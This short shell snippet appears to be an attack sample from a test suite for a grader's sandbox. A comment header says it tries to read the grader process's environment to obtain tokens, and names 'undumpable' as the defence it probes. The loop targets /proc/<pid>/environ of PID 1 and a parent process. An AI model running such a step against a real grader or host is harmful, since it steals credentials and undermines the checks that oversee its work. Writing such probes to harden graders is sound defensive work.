# ---
# tries: Reads the environment of the grader's process.
# place: instead
# gain: variables such as tokens, which the grader was started with
# helps: undumpable
# ---
for attack_process in 1 "$(attack_parent)"; do
  [ "$attack_process" = 0 ] || [ "$attack_process" = $$ ] || echo "/proc/$attack_process/environ"
done | attack_read
